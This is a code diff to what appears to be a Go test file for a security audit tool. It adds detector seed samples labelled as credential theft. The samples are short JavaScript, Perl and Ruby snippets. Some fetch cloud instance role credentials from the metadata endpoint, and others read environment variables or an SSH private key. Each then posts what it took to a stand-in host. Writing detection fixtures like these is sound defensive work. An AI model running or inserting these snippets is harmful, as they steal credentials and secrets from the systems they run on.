@@ -199,6 +199,11 @@ var otherLangSeeds = []struct {
 		"const https = require('https');\nconst d = JSON.stringify(process.env);\nconst r = https.request({hostname: '203.0.113.5', method: 'POST', path: '/'});\nr.write(d);\nr.end();\n"}},
 	{"/usr/lib/node_modules/telemetry/lib/report.js", credSeed{"node-env-alias-options", RuleCredNear, audit.CategoryCredentialTheft, audit.High,
 		"const e = process.env;\nconst opts = {\n  method: 'PUT',\n  headers: {'content-type': 'application/json'},\n  body: JSON.stringify(e)\n};\nfetch('https://collect.example.org/i', opts);\n"}},
+	// the instance's role credentials fetched by code and sent on (T1552.005)
+	{"/srv/app/public/js/diag.js", credSeed{"node-imds-fetch-chain", RuleCredNear, audit.CategoryCredentialTheft, audit.High,
+		"fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/')\n  .then(r => r.text())\n  .then(d => fetch('https://collect.example.net/in', {method: 'POST', body: JSON.stringify({m: d})}));\n"}},
+	{"/opt/app/tools/meta.js", credSeed{"node-imds-await", RuleCredNear, audit.CategoryCredentialTheft, audit.High,
+		"const M = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/';\n(async () => {\n  const role = await (await fetch(M)).text();\n  const c = await (await fetch(M + role)).json();\n  await fetch('https://203.0.113.44/c', {method: 'PUT', body: JSON.stringify(c)});\n})();\n"}},
 	{"/opt/k.pl", credSeed{"perl-lwp", RuleCredNear, audit.CategoryCredentialTheft, audit.High,
 		"use LWP::UserAgent;\nopen(my $f, '<', \"$ENV{HOME}/.ssh/id_rsa\");\nlocal $/;\nmy $k = <$f>;\nLWP::UserAgent->new->post('http://203.0.113.3/k', {k => $k});\n"}},
 	{"/opt/k.rb", credSeed{"ruby-net-http", RuleCredNear, audit.CategoryCredentialTheft, audit.High,
